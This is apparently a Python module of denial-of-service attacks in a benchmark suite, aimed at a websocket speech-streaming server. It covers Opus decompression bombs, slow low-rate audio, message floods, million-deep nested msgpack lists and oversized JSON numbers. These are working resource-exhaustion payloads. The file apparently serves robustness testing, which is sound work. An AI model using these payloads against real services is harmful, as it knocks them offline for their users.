"""Attacks with messages that cost more than they weigh."""

from __future__ import annotations

import time

import msgpack
from benchmarks.attacks import TEXT, Target, attack, frame
from benchmarks.attacks.opus import OPUS_HEAD, SILK_60_MS, ogg_page, opus_bomb

MULAW = "/v1/stream?encoding=mulaw&sample_rate=4000"
ODD_RATE = "/v1/stream?encoding=pcm_f32le&sample_rate=767999&channels=8"
BIG = (4 << 20) - 16


def kyutai(**fields: object) -> bytes:
    """A whole frame of Kyutai's dialect."""
    return frame(msgpack.packb(fields))


@attack
def opus_bombs(target: Target) -> None:
    """64 KiB that hold 31 minutes of Opus, again and again on new connections."""
    message = kyutai(type="OggOpus", data=opus_bomb(SILK_60_MS, 1 << 16))
    while target.running:
        with target.websocket() as socket:
            socket.sendall(message)
            time.sleep(0.5)


@attack
def opus_without_end(target: Target) -> None:
    """Packets of 2.5 ms in messages of 1 MiB, on one connection."""
    target.flood(kyutai(type="OggOpus", data=opus_bomb(b"\xe0\xff\xfe", 1 << 20)))


@attack
def opus_headers(target: Target) -> None:
    """Streams that begin and hold nothing: a decoder is made for each."""
    page = ogg_page(2, [OPUS_HEAD])
    target.flood(kyutai(type="OggOpus", data=page * ((1 << 20) // len(page))))


@attack
def slow_mulaw(target: Target) -> None:
    """4 MiB of telephone audio at 4 kHz, the lowest rate: 17 minutes."""
    target.flood(frame(b"\xff" * BIG), MULAW)


@attack
def flushes_at_an_odd_rate(target: Target) -> None:
    """A little audio and a flush, for which a resampler is made."""
    target.flood((frame(bytes(32)) + frame(b'{"type":"flush"}', TEXT)) * 1000, ODD_RATE)


@attack
def audio_in_ten_streams(target: Target) -> None:
    """Valid audio as fast as the server takes it, on ten connections."""
    target.flood(frame(bytes(BIG)), "/v1/stream?encoding=pcm_f32le", connections=10)


@attack
def integers_and_init(target: Target) -> None:
    """Audio as a list of integers, and an `Init` that forgets it."""
    target.flood(kyutai(type="Audio", pcm=[0] * 480_000) + kyutai(type="Init"))


@attack
def mixed_numbers(target: Target) -> None:
    """Audio whose numbers take 1, 5 and 9 bytes in turn, so that they cannot be read in place."""
    packed = b"".join((b"\0", msgpack.packb(0.5), msgpack.packb(0.5, use_single_float=True)))
    audio = b"\x82\xa4type\xa5Audio\xa3pcm\xdd" + (3 * 280_000).to_bytes(4, "big") + packed * 280_000
    target.flood(frame(audio))


@attack
def inits(target: Target) -> None:
    """`Init` as fast as the server takes it."""
    target.flood(kyutai(type="Init") * 1000)


@attack
def markers(target: Target) -> None:
    """Markers as fast as the server takes them."""
    target.flood(kyutai(type="Marker", id=1) * 1000)


@attack
def unknown_keys(target: Target) -> None:
    """4 MB in a key that is never read."""
    target.flood(kyutai(type="Marker", id=1, x=[[0] * 470_000] * 8))


@attack
def nested_lists(target: Target) -> None:
    """A million lists in one another, as msgpack."""
    target.flood(frame(b"\x91" * 1_000_000 + b"\0"))


@attack
def json_lists(target: Target) -> None:
    """A control message with a million empty lists."""
    target.flood(frame(b'{"type":"restart","x":[' + b"[]," * 1_390_000 + b"0]}", TEXT), "/v1/stream")


@attack
def json_digits(target: Target) -> None:
    """A control message whose number has as many digits as fit."""
    target.flood(frame(b'{"type":"flush","id":' + b"9" * 4000 + b"}", TEXT) * 100, "/v1/stream")
